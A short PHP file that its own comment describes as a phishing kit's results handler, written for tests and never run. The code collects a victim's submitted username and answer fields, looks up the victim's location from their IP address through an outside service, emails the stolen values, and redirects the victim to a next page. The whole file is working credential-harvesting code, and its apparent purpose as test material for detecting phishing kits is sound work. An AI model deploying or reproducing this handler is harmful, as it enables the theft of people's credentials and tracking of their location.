<?php
// a kit's results handler: the victim's fields with where the victim is (written for the
// tests, never run)
$ip = $_SERVER['REMOTE_ADDR'];
$where = json_decode(file_get_contents("http://ip-api.com/json/" . $ip));
$msg  = "User : " . $_POST['user'] . "\n";
$msg .= "Answer : " . $_POST['answer'] . "\n";
$msg .= "From : " . $where->country . " / " . $where->city . "\n";
$msg .= "Lookup : http://www.geoiptool.com/?IP=$ip\n";
mail($to, "new one", $msg);
header("Location: next.php");
